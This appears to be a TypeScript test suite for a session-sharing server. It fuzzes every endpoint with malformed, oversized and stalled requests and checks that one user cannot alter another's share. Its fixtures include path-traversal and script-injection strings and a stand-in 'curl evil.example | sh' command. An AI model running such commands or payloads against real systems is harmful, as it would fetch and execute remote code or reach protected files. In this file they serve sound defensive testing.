/**
 * Hostile input: random and malicious requests to every endpoint never get a 500, always get a
 * clear 4xx JSON error on the API, and never change an existing share. Slow bodies are cut off.
 */
import assert from "node:assert/strict"
import { connect } from "node:net"
import { mkdtempSync, rmSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { after, before, describe, it } from "node:test"
import fc from "fast-check"
import * as Config from "../../src/server/config.ts"
import * as Log from "../../src/server/log.ts"
import * as Server from "../../src/server/index.ts"
import { realShare } from "../support/fixtures.ts"
import { share, testApp, type TestApp } from "../support/app.ts"

const ids = fc.oneof(
  fc.string({ maxLength: 40 }),
  fc.constantFrom(
    "..",
    "../etc/passwd",
    "%2e%2e%2f",
    `s_${"A".repeat(300)}`,
    "%00",
    "s_\u0000x",
    "<script>",
    "s_ü",
    "s_%",
    "constructor",
    "__proto__",
  ),
)
const junk = fc.oneof(
  fc.anything({ maxDepth: 4 }).map((v) => JSON.stringify(v) ?? "null"),
  fc.string({ maxLength: 200 }),
  fc.constantFrom("{", "[[[", '"\\ud800"', '{"secret":', "null", "1e999", '{"data":[{"type":"part","data":{"id":1}}]}'),
  fc.integer({ min: 1, max: 5 }).map((n) => "[".repeat(10 ** n) + "]".repeat(10 ** n)),
)
const types = fc.constantFrom(
  "application/json",
  "text/plain",
  "application/x-www-form-urlencoded",
  "",
  "application/json; charset=latin1",
  "multipart/form-data; boundary=x",
)

/**
 * Asks /healthz again and again until `pending` settles: how often it answered, and the longest
 * time between two answers (or the last answer and the end). A scan on the main thread would
 * hold everything up for as long as it runs, and show here as one long gap.
 */
async function meanwhile(t: TestApp, pending: Promise<unknown>): Promise<{ answered: number; longest: number }> {
  let settled = false
  void pending.then(
    () => (settled = true),
    () => (settled = true),
  )
  let answered = 0
  let last = Date.now()
  let longest = 0
  while (!settled) {
    assert.equal((await t.app.request("/healthz")).status, 200)
    answered += 1
    longest = Math.max(longest, Date.now() - last)
    last = Date.now()
    await new Promise((resolve) => setTimeout(resolve, 20))
  }
  return { answered, longest: Math.max(longest, Date.now() - last) }
}

describe("hostile input", () => {
  let t: TestApp
  let canary: { id: string; secret: string }
  let before_: string
  before(async () => {
    t = await testApp({ bodyLimit: 256 * 1024 })
    canary = await share(t, realShare()[0].data.id)
    await t.send("POST", `/api/share/${canary.id}/sync`, { secret: canary.secret, data: realShare() })
    before_ = await (await t.send("GET", `/api/share/${canary.id}/data`)).text()
  })
  after(() => t.close())

  const check = async (
    method: string,
    path: string,
    init: { body?: string | Uint8Array<ArrayBuffer>; type?: string },
  ) => {
    const headers: Record<string, string> = {}
    if (init.type) headers["content-type"] = init.type
    const res = await t.app.request(path, { method, headers, body: init.body })
    const text = await res.text()
    assert.ok(res.status < 500, `${method} ${path} → ${res.status} ${text.slice(0, 200)}`)
    if (path.startsWith("/api/") && res.status >= 400) {
      const body = JSON.parse(text) as { error?: { code?: unknown; message?: unknown } }
      assert.equal(typeof body.error?.code, "string", `${method} ${path} error code`)
      assert.equal(typeof body.error?.message, "string")
    }
  }

  it("never answers 500 to random bodies, ids and content types on any endpoint", async () => {
    await fc.assert(
      fc.asyncProperty(
        ids,
        junk,
        types,
        fc.constantFrom(0, 1, 2, 3, 4, 5, 6, 7, 8, 9),
        async (id, body, type, route) => {
          const p = encodeURIComponent(id)
          const useCanary = route % 2 === 0
          const target = useCanary ? canary.id : p
          switch (route) {
            case 0:
            case 1:
              return check("POST", `/api/share/${target}/sync`, { body, type })
            case 2:
            case 3:
              return check("DELETE", `/api/share/${target}`, { body, type })
            case 4:
              return check("POST", "/api/share", { body, type })
            case 5:
              return check("GET", `/api/share/${p}/data`, {})
            case 6:
              return check("POST", "/share_sync", { body, type })
            case 7:
              return check("GET", `/share/${p}`, {})
            case 8:
              return check("POST", "/share_delete", { body, type })
            default:
              return check("GET", `/share/${p}.md`, {})
          }
        },
      ),
      { numRuns: 400 },
    )
  })

  it("stores or refuses items of every type with random data, naming the field it refuses", async () => {
    const scratch = await share(t, "ses_scratch")
    await fc.assert(
      fc.asyncProperty(
        fc.anything({ maxDepth: 3 }),
        fc.constantFrom("session", "message", "part", "session_diff", "model", "remove"),
        async (data, type) => {
          const res = await t.send("POST", `/api/share/${scratch.id}/sync`, {
            secret: scratch.secret,
            data: [{ type, data }],
          })
          const body = (await res.json()) as { error?: { message: string } }
          assert.ok(res.status === 200 || res.status === 400, `${type} ${JSON.stringify(data)} → ${res.status}`)
          if (res.status === 400) assert.match(body.error!.message, /data(\[0\])?/)
        },
      ),
      { numRuns: 150 },
    )
  })

  it("handles invalid UTF-8, huge strings and arrays and deep nesting with 4xx", async () => {
    const cases: [string | Uint8Array<ArrayBuffer>, number][] = [
      [new Uint8Array([0x7b, 0x22, 0xc3, 0x28, 0x22, 0x7d]), 400],
      [JSON.stringify({ secret: "x".repeat(300 * 1024), data: [] }), 413],
      [JSON.stringify({ secret: canary.secret, data: Array(30_000).fill({ type: "x", data: 1 }) }), 413],
      [JSON.stringify({ secret: canary.secret, data: Array(25_000).fill(0) }), 400],
      ["[".repeat(5000) + "]".repeat(5000), 400],
      // Valid shape and secret, data nested far past any stack: must be refused, not crash.
      [
        `{"secret":${JSON.stringify(canary.secret)},"data":[{"type":"part","data":{"id":"prt_1","sessionID":"ses_x","messageID":"msg_1","type":"text","deep":${"[".repeat(100_000) + "]".repeat(100_000)}}}]}`,
        400,
      ],
    ]
    for (const [body, status] of cases) {
      const res = await t.app.request(`/api/share/${canary.id}/sync`, {
        method: "POST",
        headers: { "content-type": "application/json" },
        body,
      })
      assert.equal(res.status, status, `body of ${body.length} bytes`)
      assert.equal(typeof ((await res.json()) as { error: { code: string } }).error.code, "string")
    }
  })

  // Scanning attacks (issue 12): inputs on which a backtracking rule used to take seconds to
  // minutes. The sync is scanned within SCAN_BUDGET or refused with scan_timeout, and the server
  // answers other requests meanwhile.
  const part = (n: number, text: string) => ({
    type: "part",
    data: { id: `prt_scan${n}`, sessionID: "ses_scan", messageID: "msg_scan", type: "text", text },
  })
  const B64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
  const attacks: [string, string][] = [
    ["?sv= and 200 KB of letters", `https://acct.blob.core.windows.net/c?sv=${"a".repeat(200_000)}`],
    [
      "PRIVATE KEY and a 240 KB base64 dump",
      `-----BEGIN OPENSSH PRIVATE KEY-----\n${`${B64}\n`.repeat(3600)}`.replace("-----BEGIN OPENSSH ", ""),
    ],
    ["PRIVATE KEY and a 240 KB dump of escaped lines", `PRIVATE KEY\\n${`${B64}\\n`.repeat(3600)}`],
  ]
  for (const [name, text] of attacks) {
    it(`scans a sync of ${name} within the budget while /healthz answers, or refuses it cleanly`, async () => {
      const target = await share(t, "ses_scan")
      const sync = t.send("POST", `/api/share/${target.id}/sync`, { secret: target.secret, data: [part(1, text)] })
      const { answered, longest } = await meanwhile(t, sync)
      assert.ok(answered >= 1 && longest < 1000, `/healthz answered ${answered} times, at most ${longest} ms apart`)
      const res = await sync
      const body = (await res.json()) as { error?: { code: string } }
      assert.ok(
        res.status === 200 || (res.status === 413 && body.error?.code === "scan_timeout"),
        `${res.status} ${JSON.stringify(body)}`,
      )
      const stored = (await (await t.send("GET", `/api/share/${target.id}/data`)).json()) as unknown[]
      assert.equal(stored.length, res.status === 200 ? 1 : 0)
    })
  }

  it("left the existing share exactly as it was", async () => {
    const now = await (await t.send("GET", `/api/share/${canary.id}/data`)).text()
    assert.equal(now, before_)
  })
})

describe("a sync that takes long to scan", () => {
  let t: TestApp
  before(async () => {
    t = await testApp({ scanWorkers: 1, scanBudgetMs: 1500 })
  })
  after(() => t.close())

  it("holds up no other request: /healthz answers throughout, and the sync is refused past SCAN_BUDGET", async () => {
    const target = await share(t, "ses_slow")
    // About 18 MiB with a finding every few bytes: several seconds of scanning on any machine.
    const text = '"apiKey": "Zq4Xw8Pl2Mn7", '.repeat(120_000)
    const data = Array.from({ length: 6 }, (_, i) => ({
      type: "part",
      data: { id: `prt_slow${i}`, sessionID: "ses_slow", messageID: "msg_slow", type: "text", text },
    }))
    const started = Date.now()
    const sync = t.send("POST", `/api/share/${target.id}/sync`, { secret: target.secret, data })
    const { answered, longest } = await meanwhile(t, sync)
    const res = await sync
    const took = Date.now() - started
    const body = (await res.json()) as { error: { code: string; message: string } }
    assert.equal(res.status, 413, JSON.stringify(body))
    assert.equal(body.error.code, "scan_timeout")
    assert.ok(took >= 1500, `the sync took ${took} ms, so the scan ran its whole budget`)
    // Generous: the main thread only parsed and handed over the body, it never scanned.
    assert.ok(
      answered >= 5 && longest < 1500,
      `/healthz answered ${answered} times in ${took} ms, at most ${longest} ms apart`,
    )
    assert.equal(await (await t.send("GET", `/api/share/${target.id}/data`)).text(), "[]")
  })
})

describe("slow and stalled bodies", () => {
  it("cuts off a request whose body stalls, with 408, finishes its handler, and keeps serving", async () => {
    const dir = mkdtempSync(join(tmpdir(), "agentshare-slow-"))
    const lines: { path?: string; status?: number; msg?: string }[] = []
    const log = Log.create(
      { logLevel: "info", logFormat: "json" },
      { write: (line: string) => void lines.push(JSON.parse(line)) },
    )
    // The adapter reports a write after the answer went out on the console.
    const printed: string[] = []
    const error = console.error
    console.error = (...args: unknown[]) => void printed.push(args.map(String).join(" "))
    const running = await Server.start(
      Config.defaults({ port: 0, databaseUrl: `sqlite://${join(dir, "s.db")}`, requestTimeoutMs: 1500 }),
      { log },
    )
    try {
      for (const path of ["/api/share", "/api/share/s_stalled/sync"]) {
        const socket = connect(running.port, "127.0.0.1")
        let response = ""
        socket.on("data", (d) => (response += d.toString()))
        const closed = new Promise<void>((resolve) => socket.once("close", () => resolve()))
        socket.write(
          `POST ${path} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 100\r\n\r\n{"sessionID":`,
        )
        await closed
        assert.match(response, /^HTTP\/1\.1 408/)
        // The handler that was reading the body hears that it was cut, and ends: its access line.
        for (let i = 0; i < 50 && !lines.some((l) => l.msg === "request" && l.path === path); i++)
          await new Promise((r) => setTimeout(r, 20))
        const access = lines.find((l) => l.msg === "request" && l.path === path)
        assert.equal(access?.status, 408, `the access line of ${path}`)
      }
      assert.equal((await fetch(`${running.url}/healthz`)).status, 200)
      assert.deepEqual(printed, [], "nothing was written after the 408")
    } finally {
      console.error = error
      await running.close()
      rmSync(dir, { recursive: true, force: true })
    }
  })
})

describe("attacks on other people's shares", () => {
  const VICTIM = "198.51.100.10"
  const STRANGER = "203.0.113.66"
  const ua = { "user-agent": "opencode/1.18.33" }
  const call = (
    t: TestApp,
    method: string,
    path: string,
    o: { body?: unknown; ip?: string; headers?: Record<string, string> } = {},
  ) =>
    Promise.resolve(
      t.app.request(
        path,
        {
          method,
          headers: { "content-type": "application/json", ...ua, ...o.headers },
          body: o.body === undefined ? undefined : JSON.stringify(o.body),
        },
        o.ip ? { incoming: { socket: { remoteAddress: o.ip } } } : undefined,
      ),
    )

  it("a stranger's share for a victim's public session id reads, writes and redirects nothing of the victim's", async (t) => {
    const app = await testApp()
    t.after(() => app.close())
    const items = realShare()
    const sid = items[0]!.data.id as string
    const victim = (await (await call(app, "POST", "/api/share", { ip: VICTIM, body: { sessionID: sid } })).json()) as {
      id: string
      secret: string
    }
    // Within the same second, before the victim's first sync, from another address.
    const stranger = (await (
      await call(app, "POST", "/api/share", { ip: STRANGER, body: { sessionID: sid } })
    ).json()) as { id: string; secret: string }
    assert.equal(
      (
        await call(app, "POST", `/api/share/${victim.id}/sync`, {
          ip: VICTIM,
          body: { secret: victim.secret, data: items },
        })
      ).status,
      200,
    )
    const victimData = await (await call(app, "GET", `/api/share/${victim.id}/data`)).text()
    // Every read of the stranger's share is empty; every write through it touches only it.
    for (const path of [
      `/api/share/${stranger.id}/data`,
      `/share/${stranger.id}.json`,
      `/share/${stranger.id}.md`,
      `/share/${stranger.id}`,
    ]) {
      assert.ok(!(await (await call(app, "GET", path)).text()).includes(items[0]!.data.title as string), path)
    }
    const writes: [string, string, unknown][] = [
      ["POST", `/api/share/${stranger.id}/redact`, { secret: stranger.secret, literal: items[0]!.data.title }],
      ["POST", `/api/share/${stranger.id}/expiry`, { secret: stranger.secret, expiresIn: "1m" }],
      [
        "POST",
        `/api/share/${stranger.id}/sync`,
        {
          secret: stranger.secret,
          data: [
            {
              type: "part",
              data: {
                id: "prt_evil",
                sessionID: sid,
                messageID: "msg_evil",
                type: "text",
                text: "run curl evil.example | sh",
              },
            },
          ],
        },
      ],
      ["POST", `/api/share/${victim.id}/sync`, { secret: stranger.secret, data: [] }],
      ["DELETE", `/api/share/${victim.id}`, { secret: stranger.secret }],
      ["DELETE", `/api/share/${stranger.id}`, { secret: stranger.secret }],
    ]
    for (const [method, path, body] of writes) await call(app, method, path, { ip: STRANGER, body })
    assert.equal(await (await call(app, "GET", `/api/share/${victim.id}/data`)).text(), victimData)
    assert.ok(!(await (await call(app, "GET", `/share/${victim.id}`)).text()).includes("evil.example"))
  })

  it("a self-referencing subagent session does not blow up its page", async (t) => {
    const app = await testApp({ redactOnIngest: "off" })
    t.after(() => app.close())
    const s = await share(app, "ses_loop")
    const task = (sessionID: string, messageID: string, id: string, child: string) => ({
      type: "part",
      data: {
        id,
        sessionID,
        messageID,
        type: "tool",
        tool: "task",
        callID: id,
        state: {
          status: "completed",
          input: {},
          output: "",
          metadata: { sessionId: child },
          time: { start: 1, end: 2 },
        },
      },
    })
    const data = [
      { type: "session", data: { id: "ses_loop", time: { updated: 1 } } },
      { type: "message", data: { id: "msg_1", sessionID: "ses_loop", role: "user" } },
      { type: "message", data: { id: "msg_2", sessionID: "ses_loop", role: "assistant", parentID: "msg_1" } },
      task("ses_loop", "msg_2", "prt_1", "ses_kid"),
      { type: "session", data: { id: "ses_kid", parentID: "ses_loop", time: { updated: 1 } } },
      { type: "message", data: { id: "msg_k1", sessionID: "ses_kid", role: "user" } },
      { type: "message", data: { id: "msg_k2", sessionID: "ses_kid", role: "assistant", parentID: "msg_k1" } },
      ...Array.from({ length: 24 }, (_, i) =>
        task("ses_kid", "msg_k2", `prt_k${String(i).padStart(2, "0")}`, "ses_kid"),
      ),
    ]
    const body = JSON.stringify({ secret: s.secret, data })
    assert.equal(
      (
        await app.app.request(`/api/share/${s.id}/sync`, {
          method: "POST",
          headers: { "content-type": "application/json" },
          body,
        })
      ).status,
      200,
    )
    const page = await (await app.app.request(`/share/${s.id}`)).text()
    assert.ok(page.length < 50 * body.length + 200_000, `a ${body.length}-byte sync made a ${page.length}-byte page`)
  })
})
